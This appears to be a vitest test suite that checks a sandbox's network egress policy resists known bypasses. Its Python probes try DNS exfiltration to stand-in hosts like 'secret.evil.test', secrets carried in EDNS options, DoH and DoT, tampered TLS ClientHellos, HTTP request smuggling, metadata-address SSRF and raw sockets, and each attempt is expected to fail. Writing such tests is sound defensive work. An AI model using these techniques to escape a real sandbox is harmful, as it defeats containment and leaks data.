/** Known ways to bypass a network policy. Each is tried from inside, and must not get out. */

import { readFile } from "node:fs/promises";
import { describe, expect, test } from "vitest";
import { eventually } from "../harness/harness.ts";
import {
  evilAddress,
  hostAddress,
  hostAddress6,
  nameServer,
  otherAddress,
  otherAddress6,
  webAddress,
  webAddress6,
} from "../internet/internet-names.ts";
import { allow, lines, probeOfFile } from "../internet/network-probe.ts";
import { watchWire } from "../internet/wire-watch.ts";

const { undo, internet, probe, added, under } = probeOfFile(["the command python3", "the command tcpdump"]);

/** hand-made DNS questions: types that getaddrinfo never asks for, and malformed ones */
const questions = `
def question(name, type, options=b"", flags=0x0100, count=1):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0"
    opt = b"\\0" + struct.pack("!HHIH", 41, 1232, 0, len(options)) + options
    return struct.pack("!HHHHHH", 7, flags, count, 0, 0, 1) + (labels + struct.pack("!HH", type, 1)) * count + opt
def ask(name, type, options=b"", flags=0x0100, count=1, timeout=60):
    s = udp("198.18.0.1", 53, timeout); s.send(question(name, type, options, flags, count)); a = s.recv(65536)
    return f"rcode {a[3] & 15}, {struct.unpack('!H', a[6:8])[0]} answers"
def ask_tcp(name, type):
    s = tcp("198.18.0.1", 53); q = question(name, type); s.sendall(struct.pack("!H", len(q)) + q); a = s.recv(65536)[2:]
    return f"rcode {a[3] & 15}, {struct.unpack('!H', a[6:8])[0]} answers"
`;

/** hand-made TLS hellos: the bytes of a real client, cut and changed */
const hellos = `
def hello(name):
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO(); c = ssl.create_default_context()
    t = c.wrap_bio(i, o, server_hostname=name)
    try: t.do_handshake()
    except ssl.SSLWantReadError: pass
    return o.read()
def sent(address, *parts, port=443):
    s = tcp(address, port); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for part in parts: s.sendall(part); time.sleep(0.002)
    a = s.recv(5); return "ALERT" if a[:1] == b"\\x15" else "HELLO" if a[:1] == b"\\x16" else repr(a)
def records(data, size):
    body = data[5:]; return b"".join(data[:3] + struct.pack("!H", len(body[i:i+size])) + body[i:i+size] for i in range(0, len(body), size))
`;

describe("names", () => {
  test("that the policy does not allow do not resolve, over UDP or TCP, and are not sent out", async () => {
    const machine = await under({ domains: allow("web.test", "*.other.test") });
    const watch = await watchWire(undo, internet());
    const output = await probe().python(
      machine,
      `${questions}
for name in ("evil.test", "secret.evil.test", "web.test.evil.test", "other.test", "xother.test", "test"):
    for type in (1, 28, 16, 10, 65, 255, 5, 2, 6):
        attempt(name, lambda: ask(name, type))
    attempt(name, lambda: ask_tcp(name, 16))
`,
    );
    expect(new Set(output.split("\n").map((line) => line.split(": ")[1]))).toEqual(new Set(["rcode 3, 0 answers"]));
    expect(await watch.packets()).toEqual([]);
  });

  test("carry no extra data, and only records that programs need to connect", async () => {
    const machine = await under({ domains: allow("*") });
    const watch = await watchWire(undo, internet());
    const output = await probe().python(
      machine,
      `${questions}
secret = b"stolen-by-option"
attempt("A", lambda: ask("WeB.TeSt", 1, struct.pack("!HH", 65001, len(secret)) + secret))
attempt("AAAA", lambda: ask("web.test", 28))
attempt("TXT", lambda: ask("web.test", 16))
attempt("HTTPS", lambda: ask("web.test", 65))
attempt("SVCB", lambda: ask("web.test", 64))
attempt("NULL", lambda: ask("web.test", 10))
attempt("ANY", lambda: ask("web.test", 255))
attempt("AXFR", lambda: ask("web.test", 252))
attempt("update", lambda: ask("web.test", 1, flags=0x2800))
attempt("two questions", lambda: ask("web.test", 1, count=2))
`,
    );
    expect(output).toBe(
      lines(
        "A: rcode 0, 1 answers",
        "AAAA: rcode 0, 1 answers",
        "TXT: rcode 0, 1 answers",
        "HTTPS: rcode 0, 0 answers",
        "SVCB: rcode 0, 0 answers",
        "NULL: rcode 0, 0 answers",
        "ANY: rcode 0, 0 answers",
        "AXFR: rcode 0, 0 answers",
        "update: rcode 4, 0 answers",
        "two questions: rcode 4, 0 answers",
      ),
    );
    const packets = (await watch.packets()).filter((packet) => packet.includes(`> ${nameServer}.53`));
    // The resolver got three questions, in lower case and of the length that we choose.
    expect(packets).toHaveLength(3);
    for (const packet of packets) expect(packet).toMatch(/ (A|AAAA|TXT)\? web\.test\. \(37\)$/);
  });

  test("are not a channel: TXT answers and questions are limited", async () => {
    const machine = await under({ domains: allow("*") });
    const output = await probe().python(
      machine,
      `${questions}
def many(type, count):
    answers = [ask(f"x{i}.evil.test", type) for i in range(count)]
    return sum("rcode 0" in a for a in answers)
attempt("texts", lambda: many(16, 60) < 40)
attempt("still", lambda: ask("web.test", 1))
`,
    );
    expect(output).toBe(lines("texts: True", "still: rcode 0, 1 answers"));
  });

  test("do not lead to private addresses or the host, alone or among others", async () => {
    const machine = await under({ domains: allow("private.test", "metadata.test", "host.test", "mixed.test") });
    const watch = await watchWire(undo, internet());
    const output = await probe().python(
      machine,
      `
for name in ("private.test", "metadata.test", "host.test"): attempt(name, lambda: socket.getaddrinfo(name, 443))
attempt("mixed", lambda: sorted({a[4][0] for a in socket.getaddrinfo("mixed.test", 443)}))
attempt("mixed works", lambda: https("mixed.test"))
for name, address in (("private.test", "10.9.9.9"), ("private.test", "fd12::1"), ("metadata.test", "169.254.169.254"),
                      ("host.test", "${hostAddress}"), ("host.test", "${hostAddress6}"), ("mixed.test", "10.9.9.9"),
                      ("mixed.test", "${hostAddress}"), ("mixed.test", "::ffff:10.9.9.9"), ("mixed.test", "64:ff9b::a09:909")):
    attempt(f"{name} {address}", lambda: https(name, address))
`,
    );
    const [first, second, third, mixed, works, ...refused] = output.split("\n");
    expect([first, second, third]).toEqual(
      ["private.test", "metadata.test", "host.test"].map((name) => `${name}: NONAME`),
    );
    expect(mixed).toBe(`mixed: ['${webAddress6}', '${webAddress}']`);
    expect(works).toBe("mixed works: mixed.test");
    expect(refused).toHaveLength(9);
    for (const line of refused) expect(line).toMatch(/TLSV1_ALERT_ACCESS_DENIED$/);
    const led = (await watch.packets()).filter((packet) =>
      /10\.9\.9\.9|169\.254|fd12|64:ff9b/.test(packet.split(":  ")[0] ?? ""),
    );
    expect(led.filter((packet) => !packet.includes(`${nameServer}.53`))).toEqual([]);
  });

  test("cannot be resolved elsewhere: other resolvers, DNS over TLS, DNS over HTTPS", async () => {
    const machine = await under({ domains: allow("web.test") });
    const watch = await watchWire(undo, internet());
    const output = await probe().python(
      machine,
      `${questions}
def at(address, port):
    s = udp(address, port); s.send(question("evil.test", 1)); return s.recv(100)
attempt("udp", lambda: at("${nameServer}", 53))
attempt("udp other port", lambda: at("${nameServer}", 5353))
def over_tcp():
    s = tcp("${nameServer}", 53); q = question("evil.test", 1); s.sendall(struct.pack("!H", len(q)) + q); return s.recv(100)
attempt("tcp", over_tcp)
attempt("dot", lambda: tls("${nameServer}", "dns.evil.test", 853))
attempt("doh", lambda: https("dns.evil.test", "${evilAddress}", path="/dns-query"))
attempt("doh by address", lambda: tls("${nameServer}", None))
`,
    );
    expect(output).toBe(
      lines(
        "udp: EHOSTUNREACH",
        "udp other port: EHOSTUNREACH",
        "tcp: ECONNRESET",
        "dot: TLSV1_ALERT_ACCESS_DENIED",
        "doh: TLSV1_ALERT_ACCESS_DENIED",
        "doh by address: TLSV1_ALERT_ACCESS_DENIED",
      ),
    );
    expect(await watch.packets()).toEqual([]);
  });
});

test("a resolver within an allowed subnet does not bypass the names of a policy", async () => {
  const machine = await under({ domains: allow("web.test"), allowedCidrs: ["93.184.216.0/24"] });
  const watch = await watchWire(undo, internet());
  const code = `${questions}
def at(address):
    s = udp(address, 53); s.send(question("secret.evil.test", 1)); return s.recv(100)
attempt("udp", lambda: at("${nameServer}"))
attempt("tcp", lambda: (lambda s: (s.sendall(b"\\0\\1x"), s.recv(1)))(tcp("${nameServer}", 53)))
`;
  expect(await probe().python(machine, code)).toBe(lines("udp: EHOSTUNREACH", "tcp: ECONNRESET"));
  expect(await watch.packets()).toEqual([]);
  await probe().policy(machine, { domains: allow("web.test"), allowedCidrs: [`${nameServer}/32`] });
  expect(
    await probe().python(
      machine,
      `${questions}
s = udp("${nameServer}", 53); s.send(question("evil.test", 1)); print(len(s.recv(100)) > 12)`,
    ),
  ).toBe("True");
});

describe("hellos", () => {
  test("may come in pieces, and are read whole", async () => {
    const machine = await under({ domains: allow("web.test") });
    const output = await probe().python(
      machine,
      `${hellos}
attempt("resolved", lambda: socket.gethostbyname("web.test"))
for name, address in (("web.test", "${webAddress}"), ("evil.test", "${evilAddress}"), ("evil.test", "${webAddress}")):
    h = hello(name)
    attempt("whole", lambda: sent(address, h))
    attempt("bytes", lambda: sent(address, *[h[i:i+1] for i in range(0, 150)], h[150:]))
    attempt("two", lambda: sent(address, h[:60], h[60:]))
    attempt("records", lambda: sent(address, records(h, 50)))
    attempt("records in pieces", lambda: sent(address, *[records(h, 50)[i:i+70] for i in range(0, 2000, 70)]))
`,
    );
    const kinds = ["whole", "bytes", "two", "records", "records in pieces"];
    const of = (answer: string) => kinds.map((kind) => `${kind}: ${answer}`);
    expect(output).toBe(lines(`resolved: ${webAddress}`, ...of("HELLO"), ...of("ALERT"), ...of("ALERT")));
  });

  test("that a server may understand differently are refused", async () => {
    const machine = await under({ domains: allow("web.test") });
    const watch = await watchWire(undo, internet());
    const output = await probe().python(
      machine,
      `${hellos}
h = hello("web.test")
name = b"web.test"; at = h.index(name)
attempt("records of one byte", lambda: sent("${webAddress}", records(h, 1)))
attempt("empty record", lambda: sent("${webAddress}", h[:3] + b"\\0\\0" + h))
attempt("name with a NUL", lambda: sent("${webAddress}", h.replace(name, b"web\\0test")))
attempt("name with a dot before", lambda: sent("${webAddress}", h.replace(name, b".eb.test")))
attempt("name of another kind", lambda: sent("${webAddress}", h[:at-3] + b"\\1" + h[at-2:]))
attempt("list longer than said", lambda: sent("${webAddress}", h[:at-5] + b"\\0\\x0c" + h[at-3:]))
attempt("old tls", lambda: sent("${webAddress}", b"\\x80\\x2e\\x01\\x03\\x01\\0\\x15\\0\\0\\0\\x10" + bytes(40)))
attempt("http behind", lambda: sent("${webAddress}", b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"))
attempt("connect", lambda: sent("${webAddress}", b"CONNECT web.test:443 HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n"))
attempt("host header", lambda: sent("${webAddress}", b"GET / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n", port=80))
attempt("postgres with more", lambda: sent("${webAddress}", bytes.fromhex("0000000804d2162f") + h, port=5432))
attempt("smtp", lambda: sent("${webAddress}", b"EHLO web.test\\r\\n", port=25))
`,
    );
    expect(output.split("\n")).toHaveLength(12);
    expect(output).not.toMatch(/HELLO|TIMEOUT/);
    expect(await watch.packets()).toEqual([]);
  });
});

test("an allowed name opens only the addresses that it leads to, in each spelling of an address", async () => {
  const machine = await under({ domains: allow("web.test"), deniedCidrs: [`${webAddress6}/128`] });
  const watch = await watchWire(undo, internet());
  const output = await probe().python(
    machine,
    `
for address in ("${evilAddress}", "${otherAddress}", "${otherAddress6}", "${webAddress6}", "2606:2800:0220:0001:0:0:0:1",
                "64:ff9b::5db8:d842", "2002:5db8:d842::1"):
    attempt(address, lambda: https("web.test", address))
    attempt(address, lambda: echo(udp(address, 443), b"hello"))
    attempt(address, lambda: "egress_denied" not in web(address))
`,
  );
  expect(output).not.toMatch(/web\.test|hello|True/);
  expect((await watch.packets()).filter((packet) => !packet.includes(`${nameServer}.53`))).toEqual([]);
});

describe('rules beside "*"', () => {
  const rules = [{ action: { kind: "respond" as const, status: 403 } }];
  const domains = [...allow("*"), { domain: "web.test", rules }];
  const here = (address: string) =>
    `"web.test" leads to ${address} and has rules: only TLS with a name that leads there is allowed`;
  const requests = `
def reason(address, data, port=80):
    s = tcp(address, port); s.sendall(data); page = all_of(s).decode()
    return json.loads(page.split("\\r\\n\\r\\n")[1])["error"]["reason"] if "egress_denied" in page else page
def tcp_reset(address, data): s = tcp(address, 80); s.sendall(data); return s.recv(1)
def request(host, target="/", start=b""): return start + f"DELETE {target} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode()
`;

  test.each([webAddress, webAddress6])("cannot be bypassed at %s, though no name led there before", async (address) => {
    const machine = await under({ domains });
    const watch = await watchWire(undo, internet());
    const output = await probe().python(
      machine,
      `${requests}
attempt("empty lines", lambda: reason("${address}", request("web.test", start=b"\\r\\n\\r\\n")))
attempt("second request", lambda: reason("${address}", request("other.test") + request("web.test")))
attempt("absolute form", lambda: reason("${address}", request("other.test", "http://web.test/")))
attempt("no host", lambda: reason("${address}", b"GET / HTTP/1.0\\r\\n\\r\\n"))
attempt("lower case", lambda: tcp_reset("${address}", b"delete / HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n"))
attempt("no name", lambda: tls("${address}", None))
attempt("made up name", lambda: https("made-up.test", "${address}"))
attempt("name of another address", lambda: https("other.test", "${address}"))
`,
    );
    const around = 'plain HTTP would go around the rules for "web.test": use https';
    expect(output).toBe(
      lines(
        `empty lines: ${around}`,
        `second request: ${here(address)}`,
        `absolute form: ${around}`,
        `no host: ${here(address)}`,
        "lower case: ECONNRESET",
        "no name: TLSV1_ALERT_ACCESS_DENIED",
        "made up name: TLSV1_ALERT_ACCESS_DENIED",
        "name of another address: TLSV1_ALERT_ACCESS_DENIED",
      ),
    );
    expect((await watch.packets()).filter((packet) => !packet.includes(`${nameServer}.53`))).toEqual([]);
  });

  test("leave what is beside them open: other addresses, and other sites and SSH at the same address", async () => {
    const machine = await under({ domains });
    const output = await probe().python(
      machine,
      `${requests}
attempt("another address", lambda: web("${otherAddress}"))
attempt("no name", lambda: tls("${otherAddress}", None))
attempt("neighbour", lambda: https("alias.test"))
attempt("neighbour by address", lambda: https("mixed.test", "${webAddress}"))
attempt("ssh", lambda: echo(tcp("${webAddress}", 7), b"SSH-2.0-x\\r\\n").strip())
attempt("proxy", lambda: reason("${otherAddress}", request("other.test", "http://web.test/")))
`,
    );
    expect(output).toBe(
      lines(
        "another address: page for x",
        // The server's own answer: it has no certificate for a client that names no host.
        "no name: SSLV3_ALERT_HANDSHAKE_FAILURE",
        "neighbour: alias.test",
        "neighbour by address: mixed.test",
        "ssh: SSH-2.0-x",
        'proxy: plain HTTP would go around the rules for "web.test": use https',
      ),
    );
  });

  test("hold for names below a pattern once the sandbox has asked for them", async () => {
    const machine = await under({ domains: [...allow("*"), { domain: "*.other.test", rules }] });
    const output = await probe().python(
      machine,
      `${requests}
attempt("resolved", lambda: socket.gethostbyname("x.other.test"))
attempt("plain", lambda: reason("${otherAddress}", request("a.test")))
attempt("no name", lambda: tls("${otherAddress}", None))
`,
    );
    const reason = here(otherAddress).replace("web.test", "x.other.test");
    expect(output).toBe(lines(`resolved: ${otherAddress}`, `plain: ${reason}`, "no name: TLSV1_ALERT_ACCESS_DENIED"));
  });
});

test("datagrams, QUIC and other protocols stay in", async () => {
  const machine = await under({ domains: allow("*.test") });
  const watch = await watchWire(undo, internet());
  const datagrams = `
for address in ("${webAddress}", "${webAddress6}"):
    for port in (7, 443): attempt("udp", lambda: echo(udp(address, port), b"hello"))
`;
  expect(await probe().python(machine, datagrams)).toBe(
    lines("udp: EHOSTUNREACH", "udp: EHOSTUNREACH", "udp: EACCES", "udp: EACCES"),
  );
  const raw = `
def raw(family, protocol, address):
    s = socket.socket(family, socket.SOCK_RAW, protocol); s.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), (address, 0))
attempt("icmp", lambda: raw(socket.AF_INET, socket.IPPROTO_ICMP, "${webAddress}"))
attempt("icmp6", lambda: raw(socket.AF_INET6, socket.IPPROTO_ICMPV6, "${webAddress6}"))
attempt("gre", lambda: raw(socket.AF_INET, 47, "${webAddress}"))
attempt("sctp", lambda: raw(socket.AF_INET, 132, "${webAddress}"))
`;
  expect(await probe().asRoot(machine, raw)).toBe(lines("icmp: EPERM", "icmp6: EPERM", "gre: EPERM", "sctp: EPERM"));
  expect(await watch.packets()).toEqual([]);
});

test("the memory of the process that knows the secrets is never written to disk", async () => {
  const pid = await eventually("it runs", () => probe().egressPid());
  expect(await readFile(`/proc/${pid}/limits`, "utf8")).toMatch(/^Max core file size +1 +1 /m);
});

test("a machine whose policy is not known reaches nothing", async () => {
  const machine = await added();
  await probe().order("custom", machine);
  const watch = await watchWire(undo, internet());
  const tries = [
    `attempt("name", lambda: socket.gethostbyname("web.test"))`,
    `attempt("tls", lambda: https("web.test", "${webAddress}"))`,
    `attempt("udp", lambda: echo(udp("${webAddress}", 7), b"hello"))`,
  ];
  const outputs = await Promise.all(tries.map((each) => probe().python(machine, each)));
  expect(outputs.map((output) => output.replace(" SLOW", ""))).toEqual([
    "name: NONAME",
    "tls: TLSV1_ALERT_ACCESS_DENIED",
    "udp: EHOSTUNREACH",
  ]);
  expect(await watch.packets()).toEqual([]);
});
